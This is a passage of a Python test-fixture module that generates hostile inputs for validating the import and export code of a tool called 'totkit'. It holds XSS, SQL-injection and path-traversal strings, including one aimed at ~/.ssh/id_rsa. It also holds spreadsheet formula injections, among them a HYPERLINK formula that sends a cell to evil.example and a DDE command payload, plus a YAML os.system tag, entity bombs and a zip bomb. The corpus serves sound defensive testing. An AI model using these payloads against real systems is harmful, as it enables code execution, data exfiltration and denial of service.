"""The hostile corpus: named strings, file names, and files made in a temporary folder.

Every entry point of totkit (the core behind each app form, the CLI, every import) is fed
from here by the ``test_*.py`` modules of this package. Each input must either be refused
with a clear ``InputError`` or ``AccessDenied`` (a message in both languages that names a
field or a file) or be stored exactly and exported safely.

Files are generated, never committed: ``survey_files``, ``workbook_json_files`` and
``yaml_files`` write into a folder and return ``{name: path}``; ``big_xlsx`` writes the
50 MB spreadsheet (an XLSX whose sheet is stored uncompressed, written in about a second).
"""

from __future__ import annotations

import io
import json
import random
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

# -- strings ----------------------------------------------------------------------------------

STRINGS: dict[str, str] = {
    # length and emptiness
    "empty": "",
    "space": " ",
    "whitespace_only": " \t\n\r\u00a0\u3000\u2003 ",
    "long_121": "N" * 121,
    "long_2001": "P" * 2001,
    "long_10k": "Panjang sekali. " * 625,
    "long_100k": "x" * 100_000,
    "long_emoji_10k": "😀" * 10_000,
    # control characters
    "nul": "Sri\x00Wahyuni",
    "c0_controls": "a" + "".join(chr(c) for c in range(1, 32)) + "\x7f" + "z",
    "escape_bell": "\x1b[31mmerah\x1b[0m\x07\x08",
    "c1_controls": "a\x85b\x9bc",
    "form_feed_vt": "a\x0cb\x0bc",
    "line_separators": "baris\u2028baris\u2029baris",
    "newlines": "baris 1\nbaris 2\r\nbaris 3\rbaris 4",
    "zero_width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "noncharacters": "a\ufffe\uffffb",
    "private_use": "\ue000\U000f0000\U0010ffff",
    "lone_surrogate": "a\ud800b",
    # right to left
    "bidi_override": "\u202egpj.exe",
    "bidi_isolates": "\u2066abc\u2069 \u2067def\u2069 \u200f\u200e\u061c",
    "arabic": "مرحبا بالعالم، خطة المتابعة",
    "hebrew": "שלום עולם, תוכנית המשך",
    "mixed_direction": "Sri وهذا نص عربي 123 ולוּ עברית done",
    # emoji and combining marks
    "emoji": "Rencana 😀🎉📚✅",
    "emoji_zwj": "👩‍👩‍👧‍👦 👨‍🏫 🏳️‍🌈",
    "emoji_skin_tones": "👍🏻👍🏼👍🏽👍🏾👍🏿 🧑🏿‍🏫",
    "flags": "🇮🇩🇬🇧🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "combining_zalgo": "Z̴̡̪̗͎̟̿̈́͑a̷̢̛̱͇l̶̛͎̈g̵̱̈́o̸̧̊",
    "nfd_nfc": "Cafe\u0301 / Caf\u00e9 / A\u030a / \u00c5",
    "cjk_wide": "研修計画　トレーナー",
    # markup and templates
    "html_script": "<script>alert(1)</script>",
    "html_img_onerror": "<img src=x onerror=alert(1)>",
    "html_attribute_break": "\"'><svg onload=alert(1)>",
    "html_entities": "&lt;b&gt;tebal&lt;/b&gt; &amp; &#60;script&#62;",
    "html_comment": "<!-- --><style>*{display:none}</style>",
    "javascript_url": "javascript:alert(document.cookie)",
    "jinja": "{{ 7*7 }} {% for x in range(9) %}{% endfor %} {# c #}",
    "format_string": "{field} {0} {name!r} %s %(name)s",
    # spreadsheet formulas
    "formula_cmd": "=cmd|' /C calc'!A0",
    "formula_hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "formula_plus": "+1+1",
    "formula_minus": "-2",
    "formula_at": "@SUM(1)",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    "formula_lf": "\n=1+1",
    "formula_space": "   =1+1",
    "formula_fullwidth": "＝1+1",
    "formula_dde": "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    # SQL
    "sql_drop": "'; DROP TABLE workbooks; --",
    "sql_or": "' OR '1'='1' --",
    "sql_union": "\" UNION SELECT code_digest FROM workshops --",
    # paths
    "path_unix": "../../etc/passwd",
    "path_windows": "..\\..\\win.ini",
    "path_absolute": "/etc/passwd",
    "path_drive": "C:\\Windows\\win.ini",
    "path_nul": "rtl.xlsx\x00.txt",
    "path_device": "CON",
    "path_home": "~/.ssh/id_rsa",
    # calendar and other formats
    "ics_injection": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:jahat\r\nEND:VEVENT",
    "json_like": '{"schema_version": 99, "id": "../x"}',
    "yaml_like": "!!python/object/apply:os.system ['id']",
    "csv_quotes": '"a","b"\n"c,d"',
}

# File names handed to the exports and the CLI. Each must be refused, or land inside the
# folder that was chosen.
FILENAMES: dict[str, str] = {
    "traversal_unix": "../../etc/passwd",
    "traversal_windows": "..\\..\\win.ini",
    "traversal_mixed": "..\\../rtl.xlsx",
    "absolute_unix": "/etc/passwd",
    "absolute_windows": "C:\\Windows\\win.ini",
    "drive_relative": "C:rtl.xlsx",
    "unc": "\\\\server\\share\\rtl.xlsx",
    "dot": ".",
    "dotdot": "..",
    "empty": "",
    "space": "   ",
    "nul": "rtl.xlsx\x00.txt",
    "newline": "rtl\n.xlsx",
    "device": "CON",
    "device_suffix": "nul.txt",
    "subfolder": "sub/rtl.xlsx",
    "long": "r" * 300,
    "home": "~",
    "bidi": "\u202eslx.exe",
    "emoji": "rtl-😀",
}

# Codes typed where a workshop code, resume code or facilitator key is expected.
CODES: dict[str, str] = {name: STRINGS[name] for name in (
    "empty", "whitespace_only", "long_100k", "nul", "c0_controls", "bidi_override", "arabic",
    "emoji_zwj", "html_script", "formula_cmd", "sql_drop", "sql_or", "path_unix",
    "lone_surrogate", "combining_zalgo",
)}

FORMULA_TRIGGERS = "=+-@\t\r＝＋－＠"
SPREADSHEET_LEADING_SPACE = " \t\r\n\u00a0\u3000"


# -- survey exports (CSV and XLSX) ------------------------------------------------------------

HEADER = ["name", "institution", "sel_1", "sel_2", "sel_3"]


def _csv(rows: list[list[str]]) -> str:
    import csv

    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


def _xlsx(rows: list[list[Any]], formulas: bool = False) -> bytes:
    """A small XLSX; strings are written as text, unless ``formulas``."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(row=r, column=c, value=value)
            if isinstance(value, str) and not formulas:
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def hostile_rows() -> list[list[str]]:
    """One respondent per string of the corpus, the string as name and institution."""
    rows = [HEADER]
    for n, value in enumerate(STRINGS.values()):
        rows.append([value, value, str(1 + n % 5), value, "4"])
    return rows


def survey_makers() -> dict[str, Callable[[], Any]]:
    """Bad and hostile exports of answers: ``{file name: maker}``, a maker giving the
    file's bytes (or ``DIRECTORY``, ``MISSING``)."""
    rng = random.Random(20260717)
    good = [HEADER, ["Ani", "SDN 1", "3", "4", "5"], ["Budi", "SDN 2", "5", "4", "3"]]
    good_csv = _csv(good)
    good_xlsx = _xlsx(good)
    files: dict[str, Callable[[], Any]] = {
        # encodings
        "latin1.csv": lambda: _csv([HEADER, ["José Ñúñez", "Escuela", "3", "4", "5"]])
        .encode("latin-1"),
        "cp1252_smart_quotes.csv": lambda: _csv([HEADER, ["“Ani” – €", "SD", "3", "4", "5"]])
        .encode("cp1252"),
        "utf16_le_bom.csv": lambda: good_csv.encode("utf-16"),
        "utf16_be_bom.csv": lambda: b"\xfe\xff" + good_csv.encode("utf-16-be"),
        "utf16_truncated.csv": lambda: good_csv.encode("utf-16") + b"\x00",
        "utf16_bom_then_garbage.csv": lambda: b"\xff\xfe" + bytes([0x00, 0xd8]) * 50,
        "utf32.csv": lambda: good_csv.encode("utf-32"),
        "utf8_bom.csv": lambda: b"\xef\xbb\xbf" + good_csv.encode("utf-8"),
        "random_bytes.csv": lambda: bytes(rng.getrandbits(8) for _ in range(20_000)),
        "nul_bytes.csv": lambda: good_csv.replace("Ani", "A\x00ni").encode("utf-8") + b"\x00" * 100,
        # malformed CSV
        "unbalanced_quotes.csv": lambda: b'name,sel_1,sel_2\n"Ani,3,4\nBudi,5,5\n',
        "quote_in_field.csv": lambda: b'name,sel_1,sel_2\nA"ni,3,4\n"Bu"di",5,5\n',
        "ragged_rows.csv": lambda: b"name,sel_1,sel_2,sel_3\nAni,3\nBudi,5,5,5,5,5,5\n,,,\nCitra\n",
        "header_only.csv": lambda: b"name,sel_1,sel_2,sel_3\n",
        "empty.csv": lambda: b"",
        "blank_lines.csv": lambda: b"\n\n  \n\t\n",
        "one_column.csv": lambda: b"just one column\nvalue\n",
        "field_over_csv_limit.csv": lambda: b"name,sel_1\n\"" + b"a" * 200_000 + b"\",3\n",
        "many_columns.csv": lambda: (",".join(f"c{n}" for n in range(5_000)) + ",sel_1\n"
                             + ",".join("x" for _ in range(5_000)) + ",3\n").encode(),
        "duplicate_headers.csv": lambda: b"sel_1,sel_1,sel_1,name\n1,2,3,Ani\n",
        "mixed_delimiters.csv": lambda: b"name;sel_1,sel_2\tsel_3\nAni;3,4\t5\n",
        "hostile_cells.csv": lambda: _csv(hostile_rows()).encode("utf-8", "surrogatepass"),
        "hostile_headers.csv": lambda: _csv([
            [STRINGS["formula_cmd"], STRINGS["html_script"], "sel_1", STRINGS["sql_drop"],
             STRINGS["path_unix"], STRINGS["long_10k"]],
            ["a", "b", "3", "c", "d", "e"],
        ]).encode("utf-8"),
        "xlsx_named_csv.csv": lambda: good_xlsx,
        # XLSX
        "good.xlsx": lambda: good_xlsx,
        "random_bytes.xlsx": lambda: bytes(rng.getrandbits(8) for _ in range(20_000)),
        "text.xlsx": lambda: good_csv.encode("utf-8"),
        "empty.xlsx": lambda: b"",
        "zip_not_xlsx.xlsx": lambda: _zip({"hello.txt": b"halo"}),
        "zip_empty.xlsx": lambda: _zip({}),
        "truncated_half.xlsx": lambda: good_xlsx[: len(good_xlsx) // 2],
        "truncated_tail.xlsx": lambda: good_xlsx[:-25],
        "corrupt_member.xlsx": lambda: _corrupt_member(good_xlsx),
        "bad_xml.xlsx": lambda: _replace_member(good_xlsx, "xl/worksheets/sheet1.xml",
                                                b"<worksheet><"),
        "bad_workbook_xml.xlsx": lambda: _replace_member(good_xlsx, "xl/workbook.xml",
                                                 b"<?xml version='1.0'?><nope/>"),
        "xml_entity_bomb.xlsx": lambda: _replace_member(good_xlsx, "xl/sharedStrings.xml", _LAUGHS),
        "missing_sheet_member.xlsx": lambda: _drop_member(good_xlsx, "xl/worksheets/sheet1.xml"),
        "traversal_member.xlsx": lambda: _add_member(good_xlsx, "../../../tmp/totkit-evil.txt",
                                             b"evil"),
        "hostile_cells.xlsx": lambda: _xlsx([[_xlsx_safe(v) for v in row]
                                             for row in hostile_rows()]),
        "formula_cells.xlsx": lambda: _xlsx([HEADER, ["=1+1", "=HYPERLINK(\"http://x\")", "=2+1",
                                              "=cmd|' /C calc'!A0", "4"]], formulas=True),
        "csv_named_xlsx.xlsx": lambda: good_csv.encode("utf-8"),
        "huge_sheet_small_zip.xlsx": lambda: _zip_bomb_xlsx(60 * 2**20),
        "answers.exe": lambda: good_csv.encode(),
        # not files
        "directory.csv": lambda: DIRECTORY,
        "missing.csv": lambda: MISSING,
    }
    return files


DIRECTORY = object()  # a folder of that name
MISSING = object()  # no such file
SPARSE_65MB = object()  # a file of 65 MB of zeros, without writing them (a sparse file)


def write_files(folder: Path, makers: dict[str, Callable[[], Any]]) -> dict[str, Path]:
    """Each maker's file written in ``folder``: ``{name: path}``."""
    folder.mkdir(parents=True, exist_ok=True)
    paths: dict[str, Path] = {}
    for name, maker in makers.items():
        path = paths[name] = folder / name
        content = maker()
        if content is DIRECTORY:
            path.mkdir(exist_ok=True)
        elif content is SPARSE_65MB:
            with path.open("wb") as stream:
                stream.truncate(65 * 2**20)
        elif content is not MISSING:
            path.write_bytes(content)
    return paths


def _xlsx_safe(value: str) -> str:
    """A text XML can carry in a cell (no control characters, non-characters or lone
    surrogates: an export tool could not have written them either)."""
    from totkit.exports.safe import xml_text

    return xml_text(value)[:32_000]


def _members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _replace_member(content: bytes, member: str, new: bytes) -> bytes:
    members = _members(content)
    members[member] = new
    return _zip(members)


def _drop_member(content: bytes, member: str) -> bytes:
    members = _members(content)
    members.pop(member)
    return _zip(members)


def _add_member(content: bytes, member: str, new: bytes) -> bytes:
    members = _members(content)
    members[member] = new
    return _zip(members)


def _corrupt_member(content: bytes) -> bytes:
    """The sheet's deflated bytes overwritten in the middle: CRC and inflate both fail."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    data = bytearray(content)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for offset in range(start + 2, start + min(info.compress_size - 2, 60)):
        data[offset] = 0xFF
    return bytes(data)


_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    b'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
)

_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c>'
    b'<c r="B1" t="inlineStr"><is><t>sel_1</t></is></c>'
    b'<c r="C1" t="inlineStr"><is><t>sel_2</t></is></c></row>'
)
_SHEET_TAIL = b"</sheetData></worksheet>"


def write_sheet_xlsx(path_or_buffer: Any, sheet_bytes: int, method: int) -> int:
    """An XLSX whose one sheet holds rows of a name and two answers, until the sheet's XML
    reaches ``sheet_bytes``; returns the number of data rows."""
    with zipfile.ZipFile(path_or_buffer, "w", method, compresslevel=1 if method else None) \
            as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(_SHEET_HEAD)
            written, number, chunk = len(_SHEET_HEAD), 2, []
            while written < sheet_bytes:
                row = (b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>Peserta %d</t></is></c>'
                       b'<c r="B%d"><v>3</v></c><c r="C%d"><v>4</v></c></row>'
                       % (number, number, number, number, number))
                chunk.append(row)
                written += len(row)
                number += 1
                if len(chunk) >= 20_000:
                    sheet.write(b"".join(chunk))
                    chunk = []
            sheet.write(b"".join(chunk))
            sheet.write(_SHEET_TAIL)
    return number - 2


def _zip_bomb_xlsx(sheet_bytes: int) -> bytes:
    """A small file (about 1/100 of ``sheet_bytes``) that unpacks to a huge sheet."""
    buffer = io.BytesIO()
    write_sheet_xlsx(buffer, sheet_bytes, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def big_xlsx(path: Path, size: int = 50 * 2**20) -> int:
    """A valid XLSX of ``size`` bytes on disk (the sheet stored uncompressed, as some tools
    write it), with a few hundred thousand respondents; returns the number of rows."""
    return write_sheet_xlsx(path, size, zipfile.ZIP_STORED)


# -- workbook JSON files ------------------------------------------------------------------------


def json_makers(valid: dict[str, Any]) -> dict[str, Callable[[], Any]]:
    """Bad and hostile workbook files, built from ``valid`` (a workbook as a JSON object)."""

    def changed(change: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
        data = json.loads(json.dumps(valid))
        change(data)
        return data

    def without(*keys: str) -> dict[str, Any]:
        return changed(lambda d: [d.pop(key) for key in keys])

    def with_id(value: Any) -> dict[str, Any]:
        return changed(lambda d: d.update(id=value))

    def nested_unknown(d: dict[str, Any]) -> None:
        d["plan"]["sessions"].append({"title": "x", "evil": "<script>"})

    def many_sessions(d: dict[str, Any]) -> None:
        d["plan"]["sessions"] = [{"title": f"s{n}"} for n in range(10_000)]

    def hostile_texts(d: dict[str, Any]) -> None:
        d["profile"]["name"] = STRINGS["html_script"]
        d["plan"]["header"]["name"] = STRINGS["formula_cmd"]
        d["workshop"] = STRINGS["html_img_onerror"]

    def big_answers(d: dict[str, Any]) -> None:
        d["diagnostic"]["answers"] = {f"item_{n}": 3 for n in range(200_000)}

    objects: dict[str, Callable[[], Any]] = {
        "unknown_field.json": lambda: changed(lambda d: d.update(evil="<script>alert(1)</script>")),
        "unknown_nested_field.json": lambda: changed(nested_unknown),
        "unknown_section.json": lambda: changed(lambda d: d.update(secrets={"a": 1})),
        "missing_id.json": lambda: without("id"),
        "missing_profile.json": lambda: without("profile"),
        "missing_name.json": lambda: changed(lambda d: d["profile"].pop("name")),
        "missing_everything.json": lambda: {"schema_version": 1},
        "missing_schema_version.json": lambda: without("schema_version"),
        "schema_version_99.json": lambda: changed(lambda d: d.update(schema_version=99)),
        "schema_version_0.json": lambda: changed(lambda d: d.update(schema_version=0)),
        "schema_version_negative.json": lambda: changed(lambda d: d.update(schema_version=-1)),
        "schema_version_string.json": lambda: changed(lambda d: d.update(schema_version="1")),
        "schema_version_float.json": lambda: changed(lambda d: d.update(schema_version=1.5)),
        "schema_version_bool.json": lambda: changed(lambda d: d.update(schema_version=True)),
        "schema_version_huge.json": lambda: changed(lambda d: d.update(schema_version=10**30)),
        "schema_version_null.json": lambda: changed(lambda d: d.update(schema_version=None)),
        "id_empty.json": lambda: with_id(""),
        "id_traversal.json": lambda: with_id("../../etc/passwd"),
        "id_windows_traversal.json": lambda: with_id("..\\..\\win.ini"),
        "id_sql.json": lambda: with_id(STRINGS["sql_drop"]),
        "id_nul.json": lambda: with_id("abc\x00def"),
        "id_long.json": lambda: with_id("a" * 100_000),
        "id_number.json": lambda: with_id(12345),
        "id_html.json": lambda: with_id(STRINGS["html_script"]),
        "wrong_types.json": lambda: changed(lambda d: d.update(profile="Sri", plan=[1, 2])),
        "too_many_sessions.json": lambda: changed(many_sessions),
        "many_answers.json": lambda: changed(big_answers),
        "hostile_texts.json": lambda: changed(hostile_texts),
        "versions_hostile.json": lambda: changed(lambda d: d.update(
            versions={"<script>": 5, "plan": -3, "diagnostic": 10**12})),
        "null.json": lambda: None,
        "list.json": lambda: [valid],
        "string.json": lambda: "workbook",
        "number.json": lambda: 1,
    }
    texts: dict[str, Callable[[], Any]] = {
        "not_json.json": lambda: b"this is not JSON {",
        "empty.json": lambda: b"",
        "whitespace.json": lambda: b"   \n\t ",
        "truncated.json": lambda: json.dumps(valid).encode()[:-40],
        "trailing_garbage.json": lambda: json.dumps(valid).encode() + b"\n}}}garbage",
        "latin1.json": lambda: json.dumps(changed(lambda d: d["profile"].update(name="José")),
                                  ensure_ascii=False).encode("latin-1"),
        "utf16.json": lambda: json.dumps(valid).encode("utf-16"),
        "utf8_bom.json": lambda: b"\xef\xbb\xbf" + json.dumps(valid).encode(),
        "random_bytes.json": lambda: bytes(random.Random(7).getrandbits(8) for _ in range(5_000)),
        "nul_bytes.json": lambda: b"\x00" * 64,
        "nan.json": lambda: json.dumps(valid)
        .replace('"schema_version": 1', '"schema_version": NaN').encode(),
        "infinity_hours.json": lambda: _with_session(valid, '"hours": Infinity'),
        "nan_participants.json": lambda: _with_session(valid, '"participants": NaN'),
        "huge_number.json": lambda: _with_session(valid, '"participants": 1' + "0" * 5000),
        "deep_nesting.json": lambda: b'{"schema_version": 1, "id": ' + b"[" * 100_000
        + b"]" * 100_000 + b"}",
        "deep_objects.json": lambda: b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        "lone_surrogate.json": lambda: json.dumps(valid)
        .replace('"profile": {', '"profile": {"role": "\\ud800",', 1).encode(),
        "duplicate_keys.json": lambda: json.dumps(valid)[:-1].encode() + b', "id": "ganti"}',
        "xlsx_named_json.json": lambda: _xlsx([["a"]]),
    }
    def dumped(maker: Callable[[], Any]) -> Callable[[], bytes]:
        return lambda: json.dumps(maker(), ensure_ascii=False).encode("utf-8", "replace")

    return {
        **{name: dumped(maker) for name, maker in objects.items()},
        **texts,
        "over_64mb.json": lambda: SPARSE_65MB,
        "directory.json": lambda: DIRECTORY,
        "missing.json": lambda: MISSING,
    }


def _with_session(valid: dict[str, Any], member: str) -> bytes:
    data = json.loads(json.dumps(valid))
    data["plan"]["sessions"] = [{"id": "zz", "title": "x", "owner": "MEMBER"}]
    return json.dumps(data).replace('"owner": "MEMBER"', member).encode()


# -- YAML files (instruments, context factors, column mappings) ---------------------------------

def _laughs_yaml() -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    for n in range(1, 10):
        refs = ", ".join([f"*a{n - 1}"] * 9)
        lines.append(f"a{n}: &a{n} [{refs}]")
    return ("\n".join(lines) + "\n").encode()


def yaml_makers(valid: bytes) -> dict[str, Callable[[], Any]]:
    """Bad and hostile YAML files; ``valid`` is a good file of the same kind (for the
    variants that change one thing in it)."""
    text = valid.decode("utf-8")
    contents: dict[str, Callable[[], Any]] = {
        "latin1.yaml": lambda: text.replace("id:", "id: café #", 1).encode("latin-1", "replace"),
        "utf16.yaml": lambda: text.encode("utf-16"),
        "random_bytes.yaml": lambda: bytes(random.Random(3).getrandbits(8) for _ in range(5_000)),
        "empty.yaml": lambda: b"",
        "comments_only.yaml": lambda: b"# nothing here\n",
        "nul.yaml": lambda: b"id: a\x00b\n",
        "control_chars.yaml": lambda: b"id: \x1b[31m\x07\n",
        "python_tag.yaml": lambda: b"id: !!python/object/apply:os.system ['echo pwned']\n",
        "custom_tag.yaml": lambda: b"id: !evil {a: 1}\n",
        "recursive_alias.yaml": lambda: b"a: &a [*a]\n",
        "recursive_mapping.yaml": lambda: b"a: &a {b: *a}\n",
        "billion_laughs.yaml": lambda: _laughs_yaml(),
        "shared_alias.yaml": lambda: text.encode() + b"\nx: &x {a: 1}\ny: *x\n",
        "deep_flow_500.yaml": lambda: b"a: " + b"[" * 500 + b"]" * 500 + b"\n",
        "deep_block_500.yaml": lambda: b"a:\n" + b"".join(b" " * (n + 1) + b"-\n"
                                                         for n in range(500)),
        "deep_flow_5000.yaml": lambda: b"a: " + b"[" * 5000 + b"]" * 5000 + b"\n",
        "list.yaml": lambda: b"- 1\n- 2\n",
        "scalar.yaml": lambda: b"just text\n",
        "tabs.yaml": lambda: b"id:\tmini\n\tversion: 1\n",
        "duplicate_key.yaml": lambda: text.encode() + b"\nid: again\n",
        "merge_key.yaml": lambda: b"base: &b {id: x}\nother:\n  <<: *b\n",
        "complex_key.yaml": lambda: b"? [a, b]\n: 1\n",
        "null_key.yaml": lambda: b"~: 1\n? \n: 2\n",
        "huge_scalar.yaml": lambda: b"id: " + b"x" * 5_000_000 + b"\n",
        "hostile_texts.yaml": lambda: _hostile_yaml(text),
        "truncated.yaml": lambda: valid[: len(valid) // 2],
    }
    return {**contents, "directory.yaml": lambda: DIRECTORY, "missing.yaml": lambda: MISSING}


def _hostile_yaml(text: str) -> bytes:
    """``text`` with its first texts replaced by markup and formulas (a valid file if the
    loader takes such texts: it is the exports' job to make them safe)."""
    import yaml

    data = yaml.safe_load(text)
    payloads = iter([STRINGS["formula_cmd"], STRINGS["html_script"], STRINGS["sql_drop"],
                     STRINGS["bidi_override"], STRINGS["emoji_zwj"], STRINGS["jinja"]] * 50)

    def walk(node: Any) -> Any:
        if isinstance(node, dict):
            return {key: next(payloads) if key == "en" and isinstance(value, str)
                    else walk(value) for key, value in node.items()}
        if isinstance(node, list):
            return [walk(item) for item in node]
        return node

    return yaml.safe_dump(walk(data), allow_unicode=True, sort_keys=False).encode("utf-8")


def set_path(data: Any, path: tuple[Any, ...], value: Any) -> None:
    """``data[path[0]][path[1]]... = value``."""
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


def get_path(data: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        data = data[part]
    return data



# -- where a typed text goes: the section forms' fields ------------------------------------------

# A workbook with one of everything, dated around a TOT that ends on 17 July 2026.
BASE: dict[str, dict[str, Any]] = {
    "profile": {"name": "Sri Wahyuni", "role": "Guru", "institution": "SDN 1 Sukamaju"},
    "diagnostic": {"answers": {"sel_1": 3, "sel_2": 4}, "reflection": "Refleksi"},
    "gaps": {"entries": [
        {"factor": "time", "assumed": 5, "reality": 1, "importance": 3, "adaptation": "Sesi"},
        {"factor": "own_1", "label": "Ujian", "assumed": 4, "reality": 1, "importance": 3,
         "adaptation": "Geser"},
    ]},
    "plan": {
        "header": {"name": "Sri Wahyuni", "nip": "19800101 200501 2 001", "position": "Guru",
                   "work_unit": "SDN 1", "superior_name": "Bambang",
                   "superior_position": "Kepala Sekolah", "superior_nip": ""},
        "sessions": [{"id": "s1", "title": "KKG", "objective": "Diskusi", "audience": "Guru",
                      "participants": 12, "date": "2026-08-10", "hours": 2, "venue": "SDN 1",
                      "resources": "Kertas", "indicators": ["i1"], "notes": "Catatan",
                      "owner": "Sri"}],
        "commitments": [{"id": "c1", "kind": "protected_time", "from_whom": "Kepala sekolah",
                         "status": "agreed", "hours_per_month": 4, "months": ["2026-08"],
                         "notes": "Jumat"}],
        "mentoring": [{"id": "m1", "date": "2026-08-05", "mentor": "Pengawas",
                       "mode": "school_visit", "focus": "Persiapan"}],
        "indicators": [{"id": "i1", "statement": "Guru memakai diskusi", "level": "application",
                        "baseline": "1 dari 12", "target": "8 dari 12", "source": "Observasi",
                        "measurement_dates": ["2026-10-20"], "owner": "Sri"}],
        "actions": [{"id": "a1", "what": "Minta surat tugas", "owner": "Sri",
                     "due": "2026-07-31", "gaps": ["time"], "dimensions": ["mandate"]}],
    },
    "monitoring": {
        "sessions_held": [{"id": "sh1", "planned": "s1", "date": "2026-08-12",
                           "participants": 11, "hours": 2, "notes": "Lancar"}],
        "mentoring_held": [{"id": "mh1", "planned": "m1", "date": "2026-08-06",
                            "mentor": "Pengawas", "mode": "school_visit", "notes": "Baik"}],
        "measurements": [{"id": "me1", "indicator": "i1", "value": "6 dari 12", "number": 6,
                          "date": "2026-10-20", "source": "Observasi", "kind": "observed"}],
        "obstacles": [{"id": "ob1", "date": "2026-08-20", "cause": "structural",
                       "text": "Jadwal ujian"}],
        "reflection": {"helped": "Kepala sekolah", "blocked": "Waktu", "next": "Lanjut"},
    },
}


class Target:
    """A field a planner types into: its section, where it sits in the section's data, and
    whether the model trims the text (a name does; a paragraph is kept as typed)."""

    def __init__(self, section: str, path: tuple[Any, ...], stripped: bool, key: bool = False):
        self.section, self.path, self.stripped, self.key = section, path, stripped, key

    @property
    def id(self) -> str:
        return ".".join([self.section, *(str(part) for part in self.path)]) + \
            (".<key>" if self.key else "")

    def put(self, data: dict[str, Any], value: str) -> None:
        if self.key:  # the text is a key of a mapping (an answer's item id)
            set_path(data, self.path, {value: 3})
        else:
            set_path(data, self.path, value)

    def get(self, data: dict[str, Any]) -> Any:
        found = get_path(data, self.path)
        return next(iter(found)) if self.key else found

    def matches(self, stored: Any, typed: str) -> bool:
        """Whether ``stored`` is ``typed`` as the model keeps it: trimmed where the model
        trims; a blank id is given the next free one, a blank plan link is no link."""
        expected = typed.strip() if self.stripped else typed
        if self.path[-1] == "id" and not expected:
            return isinstance(stored, str) and bool(stored)
        if self.path[-1] == "planned" and not expected:
            return stored is None
        return stored == expected


def _targets() -> list[Target]:
    line, paragraph = True, False
    plan = [
        (("header", "name"), line), (("header", "position"), line),
        (("header", "work_unit"), line), (("header", "superior_name"), line),
        (("header", "nip"), line),
        (("sessions", 0, "title"), line), (("sessions", 0, "objective"), paragraph),
        (("sessions", 0, "audience"), line), (("sessions", 0, "venue"), line),
        (("sessions", 0, "resources"), paragraph), (("sessions", 0, "notes"), paragraph),
        (("sessions", 0, "owner"), line), (("sessions", 0, "id"), line),
        (("commitments", 0, "from_whom"), line), (("commitments", 0, "notes"), paragraph),
